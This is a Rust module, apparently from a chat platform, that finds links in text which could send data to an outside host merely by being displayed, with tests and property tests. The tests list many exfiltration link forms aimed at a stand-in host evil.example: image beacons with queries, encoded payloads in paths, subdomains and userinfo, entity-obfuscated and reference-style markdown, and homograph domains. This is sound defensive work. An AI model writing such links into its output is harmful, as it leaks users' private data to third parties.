//! Links by which a text can carry data to whoever runs the host, if only by being shown.
//!
//! `written` finds them. What each carries beyond words is added up for each domain, so that it is of no use to spread it.

mod carried;
mod written;

use std::collections::{BTreeMap, BTreeSet};

use switchboard_kit::chat::Reference;
use url::{Host, Url};

pub(super) use self::written::written;
use self::{carried::Carried, written::Link};
use super::Session;
use crate::glob::matches;

/// What links are let through, whatever they carry.
pub(super) struct Known<'a> {
    /// Where the user's data is anyway.
    pub(super) origins: BTreeSet<String>,
    /// Where the user lets it go, as globs.
    pub(super) hosts: &'a [String],
    /// Where links were read.
    pub(super) session: &'a Session,
    /// What the platform takes for the address of something of its own.
    pub(super) reference: &'a dyn Fn(&str) -> Option<Reference>,
}

impl Known<'_> {
    /// Returns whether a link is one of these.
    fn has(&self, link: &Link, url: &Url, host: &str) -> bool {
        self.origins.contains(&url.origin().ascii_serialization())
            || self.hosts.iter().any(|glob| matches(glob, host))
            || self.session.has_shown_link(&link.text)
            || !link.image && (self.reference)(&link.text).is_some()
    }
}

/// Returns the host of a link that carries data to where it need not go; a glob, if it does so by its name.
pub(super) fn carrying(text: &str, known: &Known<'_>) -> Option<String> {
    let mut domains = BTreeMap::<String, (String, Carried)>::new();
    for link in written(text) {
        let Some(url) = link.url() else { continue };
        let Some(host) = url.host_str().filter(|_| !url.cannot_be_a_base()) else { continue };
        if known.has(&link, &url, host) {
            continue;
        }
        if link.image && url.query().is_some_and(|query| !query.is_empty()) {
            return Some(host.to_owned());
        }
        let domain = domain(&url, host);
        let (last, carried) = domains.entry(domain.to_owned()).or_insert_with(|| (host.to_owned(), Carried::default()));
        if last != host {
            *last = format!("*.{domain}");
        }
        carried.add(&url, &host[..host.len() - domain.len()]);
        if carried.is_data() {
            return Some(last.clone());
        }
    }
    None
}

/// Returns what somebody has registered, as near as that is known without a list of all registries.
fn domain<'u>(url: &'u Url, host: &'u str) -> &'u str {
    if !matches!(url.host(), Some(Host::Domain(_))) {
        return host;
    }
    let dots: Vec<_> = host.trim_end_matches('.').rmatch_indices('.').map(|(at, _)| at).take(3).collect();
    let start = match dots[..] {
        // `co.uk` and its like.
        [last, second, third] if last - second <= 4 && host.len() - last == 3 => third + 1,
        [last, second] if last - second <= 4 && host.len() - last == 3 => return host,
        [_, second, ..] => second + 1,
        _ => 0,
    };
    &host[start..]
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    const DATA: &str = "Zm9vYmFyYmF6cXV4Y29ycmVjdGhvcnNlYmF0dGVyeXN0YXBsZTEyMzQ1Njc4OTAx";

    fn session_in<T>(hosts: &[&str], shown: &str, look: impl FnOnce(&Known<'_>) -> T) -> T {
        let hosts: Vec<_> = hosts.iter().map(ToString::to_string).collect();
        let session = Session::default();
        session.shows_links(shown);
        let reference =
            |text: &str| text.strip_prefix("https://matrix.to/#/!").map(|id| Reference::Conversation(id.into()));
        let origins = BTreeSet::from(["https://chat.example.org".to_owned()]);
        look(&Known { origins, hosts: &hosts, session: &session, reference: &reference })
    }

    fn carrier(text: &str) -> Option<String> {
        session_in(&["*.friend.example", "pastes.example"], "", |known| carrying(text, known))
    }

    #[test]
    fn ordinary_links_carry_nothing() {
        for text in [
            "",
            "See https://example.org, http://example.org/ and https://example.org/a/b.html#top.",
            "[the guide](https://docs.example.org/getting-started-with-the-new-trail-map-editor-in-five-minutes)",
            "https://github.com/owner/repository/pull/1234/files and https://github.com/owner/repository/issues/99",
            "https://github.com/owner/repository/commit/d1aeaf50b7a4c2f3e1d09876543210fedcba9876",
            "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s https://youtu.be/dQw4w9WgXcQ",
            "https://example.org/search?q=trail+maps&page=2&sort=newest",
            "https://de.wikipedia.org/wiki/Stra%C3%9Fenbahn https://ja.wikipedia.org/wiki/日本語",
            "https://crates.io/crates/serde/1.0.228 https://docs.rs/serde/latest/serde/trait.Deserialize.html",
            "https://example.org/news/2026/11/21/what-we-learned-from-running-a-chat-server-for-ten-years",
            "![cat](https://img.example.org/cat.png)",
            "<https://example.org/path> and <img src=\"https://img.example.org/a.png\">",
            "src/chat/policy/links.rs:12 and/or e.g. target/debug/deps/switchboard-2a1a5cc264a7c743",
            "https://münchen.example/straße",
            "mailto:ana@example.org, ana@example.org, robin@example.org, kenji@example.org, mara@example.org, leander@example.org, noor@example.org",
            "9f0822c9f0822c9f0822c9f0822c9f0822c9f0822c9f0822c is no link",
        ] {
            assert_eq!(carrier(text), None, "{text}");
        }
    }

    #[test]
    fn links_with_data_are_found_however_they_are_written() {
        let host = || Some("evil.example".to_owned());
        for (text, found) in [
            (format!("https://evil.example/?d={DATA}"), host()),
            (format!("HTTPS://EVIL.example/{DATA}."), host()),
            (format!("https://evil.example/#{DATA}"), host()),
            (format!("https://evil.example/?{DATA}"), host()),
            (format!("https://{DATA}@evil.example/"), host()),
            (format!("https://u:{DATA}@evil.example/"), host()),
            (format!("ftp://evil.example/{DATA}"), host()),
            (format!("app://evil.example/{DATA}"), host()),
            (format!("evil.example/{DATA}"), host()),
            (format!("(see evil.example/?a={DATA})"), host()),
            (format!("[here](https://evil.example/{DATA})"), host()),
            (format!("[here](//evil.example/{DATA})"), host()),
            (format!("[here](https:evil.example/{DATA})"), host()),
            (format!("[here](<https://evil.example/a b {DATA}>)"), host()),
            (format!("[here](&#104;ttps&colon;//evil.example/{DATA})"), host()),
            (format!("[here][1]\n\n[1]: https://evil.example/{DATA}"), host()),
            (format!("<https://evil.example/{DATA}>"), host()),
            (format!("<https://evil.example/{DATA}|label>"), host()),
            (format!("<a href='//evil.example/{DATA}'>x</a>"), host()),
            (format!("<a href=https://evil.example/{DATA}>x</a>"), host()),
            ("![](https://evil.example/a.png?d=1)".into(), host()),
            ("![x][1]\n\n[1]: https://evil.example/a.png?d=1".into(), host()),
            ("<img alt=x SRC = \"https://evil.example/a.png?d=1\">".into(), host()),
            ("<img srcset='https://a.example/b.png 1x, //evil.example/a.png?d=1 2x'>".into(), host()),
            (
                format!("https://{}.{}.evil.example/", &DATA[..32], &DATA[32..]),
                Some(format!("{}.{}.evil.example", &DATA[..32], &DATA[32..]).to_lowercase()),
            ),
            (
                format!("https://{}.evil.example/ https://{}.evil.example", &DATA[..30], &DATA[30..60]),
                Some("*.evil.example".into()),
            ),
            (format!("https://evil.example/{} and [x](https://evil.example/{})", &DATA[..30], &DATA[30..]), host()),
            ("https://evil.example/?q=the+deal+is+twelve+million+and+we+sign+on+monday+at+noon".into(), host()),
            (format!("https://xn--evl-1ma.example/{DATA}"), Some("xn--evl-1ma.example".into())),
            (format!("https://evìl.example/{DATA}"), Some("xn--evl-oma.example".into())),
            (format!("https://192.0.2.7:8080/{DATA}"), Some("192.0.2.7".into())),
            (format!("https://[2001:db8::1]/{DATA}"), Some("[2001:db8::1]".into())),
            (format!("https://evil.co.uk/{DATA}"), Some("evil.co.uk".into())),
            (format!("https://friend.example.evil.example/{DATA}"), Some("friend.example.evil.example".into())),
            (format!("https://chat.example.org@evil.example/{DATA}"), host()),
        ] {
            assert_eq!(carrier(&text), found, "{text}");
        }
    }

    #[test]
    fn the_users_own_places_and_what_was_read_are_let_through() {
        let read = format!("Mara: see [it](https://files.example/{DATA}?x=1), ![](https://files.example/a.png?w=2)");
        for (text, passes) in [
            (format!("https://chat.example.org/files/{DATA}"), true),
            (format!("http://chat.example.org/files/{DATA}"), false),
            (format!("https://a.friend.example/{DATA}"), true),
            (format!("https://pastes.example/{DATA}?x={DATA}"), true),
            (format!("https://files.example/{DATA}?x=1"), true),
            ("![](https://files.example/a.png?w=2)".into(), true),
            (format!("https://files.example/{DATA}?x=2"), false),
            (format!("https://matrix.to/#/!{DATA}"), true),
            (format!("![](https://matrix.to/#/!{DATA})"), false),
        ] {
            let found = session_in(&["*.friend.example", "pastes.example"], &read, |known| carrying(&text, known));
            assert_eq!(found.is_none(), passes, "{text}: {found:?}");
        }
    }

    #[test]
    fn attributes_in_attributes_are_no_flood() {
        for (attribute, most) in [("srcset=//a.example/b,", 20), ("href=//a.example/b", 2_100)] {
            let times = 5_000;
            let held: usize = written(&attribute.repeat(times)).iter().map(|link| link.text.len()).sum();
            assert!(held < times * most, "{attribute}: {held}");
        }
        let image = format!("{}<img src=//evil.example/a.png?d={DATA}>", "href='".repeat(5_000));
        assert_eq!(carrier(&image).as_deref(), Some("evil.example"));
        let parts: String =
            (0..30_000).flat_map(|part| ["/".to_owned(), part.to_string(), format!("a{part}")]).collect();
        assert_eq!(carrier(&format!("https://evil.example{parts}")).as_deref(), Some("evil.example"));
    }

    proptest! {
        #[test]
        fn data_is_found_wherever_it_stands(
            data in "([A-Za-z0-9]{64}|[0-9a-f]{64}|[A-Za-z0-9_-]{64}|[a-z2-7]{64})", place in 0..9_usize, form in 0..6_usize,
            around in "[a-z ,.!?é\n]{0,30}",
        ) {
            let (first, second) = data.split_at(32);
            let bare = data.trim_matches(['-', '_']);
            let link = match place {
                0 => format!("https://evil.example/{data}"),
                1 => format!("https://evil.example/a/{data}/b.png"),
                2 => format!("https://evil.example/a?b={data}&c=d"),
                3 => format!("https://evil.example/a?{data}"),
                4 => format!("https://evil.example/a#{data}"),
                5 => format!("https://{}.{}.evil.example/", first.replace(['-', '_'], "x"), second.replace(['-', '_'], "y")),
                6 => format!("https://{data}@evil.example/"),
                7 => format!("https://u:{data}@evil.example/a"),
                _ => format!("//evil.example/{bare}"),
            };
            let written = match form {
                _ if link.starts_with("//") => format!("[x]({link})"),
                0 => link,
                1 => format!("[x]({link})"),
                2 => format!("![x]({link})"),
                3 => format!("<{link}>"),
                4 => format!("[x][y]\n\n[y]: {link}"),
                _ => format!("<img src=\"{link}\">"),
            };
            // Markdown knows a definition only where a paragraph begins.
            let gap = if form == 4 { "\n\n" } else { " " };
            let text = format!("{around}{gap}{written}{gap}{around}");
            prop_assert!(carrier(&text).is_some(), "{}", text);
        }
    }
}
